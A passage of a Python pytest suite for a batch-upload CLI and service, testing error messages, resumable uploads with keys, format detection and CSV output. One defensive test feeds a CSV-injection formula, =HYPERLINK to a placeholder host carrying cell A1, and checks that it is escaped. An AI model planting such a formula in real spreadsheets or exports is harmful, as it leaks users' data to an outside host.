    assert lines[0]["result"] == {"echo": "line 1", "n": 1} and lines[-1]["status"] == "invalid"
    assert not (tmp_path / "results.jsonl.batch").exists()
    # Again, once done: a new batch (the template may have changed), not the old results.
    fake_ollama.reply = lambda request: json.dumps({"echo": "second", "n": 0})
    code, _, output = await run_cli(
        "rowjob", str(data), "-o", str(tmp_path / "r.csv"), "--url", svc.url
    )
    assert code == 1, output
    assert sql_rows(db_url, "SELECT count(*), count(DISTINCT batch_id) FROM batch_rows") == [
        (82, 2)
    ]
    table = list(csv.DictReader((tmp_path / "r.csv").open()))
    assert table[1]["result.echo"] == "second"


async def test_the_cli_says_what_is_wrong_before_and_after_an_upload(
    svc: Service, tmp_path: Path, db_url: str
) -> None:
    """A missing output folder was a traceback; --max-attempts 0 was dropped without a word
    (the batch got the template's); an upload the service refused left its sidecar, so the
    next run said it was sending it again with its key; 250 refused rows were told as 100."""
    data = tmp_path / "data.csv"
    data.write_text("text,n\n" + "bad,-1\n" * 250 + "good,1\n")
    code, _, err = await run_cli("rowjob", str(data), "-o", str(tmp_path / "nowhere" / "r.jsonl"))
    assert code == 2 and "Traceback" not in err, err
    assert "nowhere" in err and "folder" in err, err
    code, _, err = await run_cli(
        "rowjob", str(data), "-o", str(tmp_path / "r.jsonl"), "--max-attempts", "0"
    )
    assert code == 2 and "--max-attempts" in err and "Traceback" not in err, err
    out = tmp_path / "refused.jsonl"
    code, _, err = await run_cli("no-such-template", str(data), "-o", str(out), "--url", svc.url)
    assert code == 5, err  # the template is not found
    assert not (tmp_path / "refused.jsonl.batch").exists()
    code, _, err = await run_cli("no-such-template", str(data), "-o", str(out), "--url", svc.url)
    assert code == 5 and "sending the upload again" not in err, err
    code, _, err = await run_cli("rowjob", str(data), "-o", str(out), "--url", svc.url)
    assert code == 1, err
    assert err.count(" refused: ") == 100 and "250 rows refused in all (see the results)" in err
    assert sql_rows(db_url, "SELECT count(*) FROM batch_rows WHERE task_id IS NULL") == [(250,)]


async def test_a_cli_upload_cut_before_its_answer_exits_3_and_resumes_with_its_key(
    tmp_path: Path,
) -> None:
    """A broken upload is a request that may have been carried out, which the CLI tells by
    exit 6 elsewhere; this one carries its key, and the same command sends it again without
    making a second batch: exit 3, as docs/batches.md says, saying so."""

    async def cut(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.transport.abort()  # the upload went out; its connection broke

    data = tmp_path / "data.csv"
    data.write_text("text,n\nrow,1\n")
    async with loopback_server(cut) as url:
        code, _, err = await run_cli(
            "rowjob", str(data), "-o", str(tmp_path / "r.jsonl"), "--url", url
        )
    assert code == 3, err
    assert "the same command sends it again with its key" in err, err
    assert (tmp_path / "r.jsonl.batch").exists()


async def test_a_cli_upload_refused_after_rows_were_stored_keeps_its_key(
    idle: Service, tmp_path: Path, db_url: str
) -> None:
    """A 400 that comes once rows are stored (a line that is not UTF-8, far into the file)
    leaves a batch its key resumes: the run keeps its sidecar, so running it again sends the
    same key and queues none of those rows twice."""
    data = tmp_path / "data.csv"
    data.write_bytes(b"text\n" + b"".join(b"row %d\n" % i for i in range(120)) + b"\xff\xfe\n")
    out = tmp_path / "r.jsonl"
    for _ in range(2):
        code, _, err = await run_cli("rowjob", str(data), "-o", str(out), "--url", idle.url)
        assert code == 1 and "UTF-8" in err, err
        assert (tmp_path / "r.jsonl.batch").exists()
    assert "sending the upload again with its key" in err
    assert sql_rows(db_url, "SELECT count(*), count(DISTINCT batch_id) FROM batch_rows") == [
        (120, 1)
    ]


async def test_an_interrupted_cli_run_resumes_its_batch(
    svc: Service, tmp_path: Path, db_url: str, fake_ollama: FakeOllama
) -> None:
    """Resumed, it also says that rows were refused (only the first run, which got the
    upload's answer, said so: helper-126)."""
    data = tmp_path / "data.jsonl"
    rows = [{"text": f"row {i}", "n": i} for i in range(20)] + [{"text": "bad", "n": -1}]
    data.write_text("".join(json.dumps(row) + "\n" for row in rows))
    out = tmp_path / "out.jsonl"
    sidecar = tmp_path / "out.jsonl.batch"
    fake_ollama.close_gate("llama3.2")  # the rows wait: the run is stopped while it follows
    args = ["rowjob", str(data), "-o", str(out), "--url", svc.url]
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "orchestra", "batch", "run", *args,
        stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL,
    )  # fmt: skip
    try:
        await wait_until(lambda: "batch_id" in (sidecar.read_text() if sidecar.exists() else ""))
    finally:
        proc.kill()
        await proc.wait()
    fake_ollama.open_gate("llama3.2")
    code, _, output = await run_cli(*args)
    assert code == 1 and "1 of 21 rows did not succeed" in output, output
    [(batch_id,)] = sql_rows(db_url, "SELECT max(batch_id) FROM batch_rows")
    assert f"resuming batch {batch_id}" in output, output
    assert f"1 row refused when the upload was read (in {out}" in output, output
    assert sql_rows(db_url, "SELECT count(*), count(DISTINCT batch_id) FROM batch_rows") == [
        (21, 1)
    ]
    assert len(out.read_text().splitlines()) == 21 and not sidecar.exists()


@pytest.mark.parametrize(
    ("name", "said"),
    [("data.tsv", "tab-separated files are not read"), ("data.txt", "give --format csv")],
)
async def test_the_cli_asks_for_the_format_it_cannot_tell(
    tmp_path: Path, name: str, said: str
) -> None:
    data = tmp_path / name
    data.write_text("text\tn\nhello\t2\n")
    code, printed, output = await run_cli("rowjob", str(data), "-o", str(tmp_path / "o.jsonl"))
    assert printed == ""
    assert code == 2 and said in output, output
    assert not (tmp_path / "o.jsonl.batch").exists()


async def test_csv_results_keep_a_spreadsheet_from_reading_text_as_a_formula(
    svc: Service, fake_ollama: FakeOllama
) -> None:
    """A model's answer is text from outside: one that starts like a formula (OWASP's CSV
    injection) is written with a leading apostrophe, which spreadsheets read as "this is
    text". JSON lines carry it as it is; numbers stay numbers."""
    fake_ollama.reply = lambda request: json.dumps(
        {"echo": '=HYPERLINK("http://x.test/?"&A1)', "n": -3}
    )
    answer = await upload(svc, b"text\none\n")
    batch_id = answer["batch"]["id"]
    await finished(svc, batch_id)
    (line,) = [json.loads(x) for x in (await results(svc, batch_id)).splitlines()]
    assert line["result"]["echo"].startswith("=HYPERLINK")
    (row,) = csv.DictReader(io.StringIO(await results(svc, batch_id, "csv")))
    assert row["result.echo"] == "'" + line["result"]["echo"]
    assert row["result.n"] == "-3"


async def test_a_csv_row_with_too_few_or_too_many_cells_is_counted_in_words(idle: Service) -> None:
    """It said "has 1 cells"."""
    answer = await upload(idle, b"text,n\nx\nx,1,2\nx,1\n")
    assert [p["message"] for p in answer["problems"]] == [
        "has 1 cell; the header has 2",
        "has 3 cells; the header has 2",
    ]
